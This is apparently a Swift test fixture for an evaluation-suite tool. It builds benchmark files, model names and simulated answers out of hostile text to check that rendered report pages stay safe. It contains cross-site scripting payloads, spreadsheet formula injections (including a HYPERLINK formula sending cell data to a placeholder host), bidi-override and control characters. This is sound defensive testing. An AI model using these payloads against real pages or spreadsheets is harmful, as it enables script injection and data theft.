import Foundation
import PoiseSimulator

/// A run whose every text was written by somebody who means harm.
enum HostileFixture {
    /// What must be shown as text: markup, scripts, marks that turn text, control characters, formulas, templates.
    static let texts = [
        "<script>window.pwned = 'script'</script>",
        "</script><script>window.pwned = 'after script'</script>",
        "</style><style>body { display: none }</style>",
        "<img src=x onerror=\"window.pwned = 'image'\">",
        "<svg onload=\"window.pwned = 'svg'\"><animate onbegin=\"window.pwned = 'animate'\"/></svg>",
        "\" onmouseover=\"window.pwned = 'attribute'\" x=\"",
        "' autofocus onfocus='window.pwned = 1' x='",
        "<a href=\"javascript:window.pwned = 'link'\">link</a>",
        "[link](javascript:window.pwned='markdown') ![image](http://192.0.2.1/x.png) <https://example.org>",
        "{{title}} {{{data}}} {{#points}}{{/points}} ${window.pwned = 'template'}",
        "<!-- --><!--<script>", "]]></svg><iframe src=\"https://example.org\"></iframe>", "&lt;b&gt; &amp; &#x202e;",
        "turned \u{202E}drow\u{202C} and not closed \u{202E}drow", "isolated \u{2067}and never closed",
        "bell \u{7} null-like \u{1} escape \u{1B}[31mred\u{1B}[0m vertical \u{B} form \u{C} delete \u{7F}",
        "a family \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} and i\u{335}\u{336}\u{337}\u{338}\u{33F}\u{346}\u{34A} stacked",
        "line\u{2028}separator and paragraph\u{2029}separator",
        "```\n</code></pre><script>window.pwned = 'code'</script>",
        "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"more\")", "\u{FF1D}1+1", "=1+1,\"=2+2\"\n=3+3",
    ]

    static let longLine = String(repeating: "unbroken", count: 131_072)

    /// Those that stand on one line, since a name that YAML holds does.
    private static let names = [
        "<script>window.pwned = 'name'</script>", "evil\u{202E}eman", "=cmd|' /C calc'!A0", "@SUM(1+1)",
        "</script><svg onload=window.pwned=1>", String(repeating: "a-name-without-an-end-", count: 12),
        "\" onclick=\"window.pwned = 1",
    ]

    static func make() async throws -> Workplace {
        let workplace = try Workplace()
        try workplace.write(
            "texts.jsonl",
            (texts + [longLine]).enumerated().map { place, text in
                let (id, input) = (BrowserPage.quoted("\(place) \(text.prefix(80))"), BrowserPage.quoted(text))
                return "{\"id\": \(id), \"input\": \(input), \"target\": \(input)}"
            }.joined(separator: "\n"))
        try workplace.write(
            "texts.yaml",
            """
            name: "<img src=x onerror=window.pwned=1>\\u202Emodnar"
            title: "</title></script><script>window.pwned = 'title'</script>"
            samples: texts.jsonl
            prompt: "{input}"
            graders:
              - check: exact
              - rubric: verdict
            """)
        try workplace.write(
            "verdict.yaml",
            """
            name: "=verdict<b>"
            criteria:
              - name: "@right<i>"
                judge: "Is the response right? </script>"
                levels:
                  C: {worth: 1, when: It is.}
                  I: {worth: 0, when: It is not.}
            """)
        var echo = SimulatorConfiguration()
        echo.schedule.answer = .echo
        var other = SimulatorConfiguration()
        other.schedule.answer = .text(texts.joined(separator: "\n") + "\n" + texts[13])
        other.schedule.interTokenGap = .microseconds(100)
        other.faults = SimulatorFaults([.init(.status(400), on: .requests(5))])
        var judge = SimulatorConfiguration()
        judge.schedule.answer = .text(texts.joined(separator: "\n") + "\nGRADE: C")
        let simulators = [try await Simulator.start(echo), try await Simulator.start(other)]
        let arbiter = try await Simulator.start(judge)
        let candidates = names.enumerated().map { place, name in
            """
              - model: \(BrowserPage.quoted(name))
                quantization: \(BrowserPage.quoted(place % 2 == 0 ? "q8_0" : "<b>q4</b>"))
                endpoint: {base_url: "\(simulators[place % 2].baseURL)", model: tiny}
            """
        }
        try workplace.write(
            "suite.yaml",
            """
            name: "<svg onload=window.pwned=3> \\u202Emodnar"
            description: "</script><script>window.pwned = 4</script> \\u2067 =1+1 {{x}} \(longLine.prefix(3000))"
            candidates:
            \(candidates.joined(separator: "\n"))
            judges: [{model: "<b>arbiter</b>\\u202E", endpoint: {base_url: "\(arbiter.baseURL)", model: tiny}}]
            tasks: [texts.yaml]
            warmup: 0
            """)
        try await PageFixture.run("\(workplace.path)/suite.yaml", in: workplace, as: "hostile")
        for simulator in simulators + [arbiter] { await simulator.shutdown() }
        return workplace
    }
}
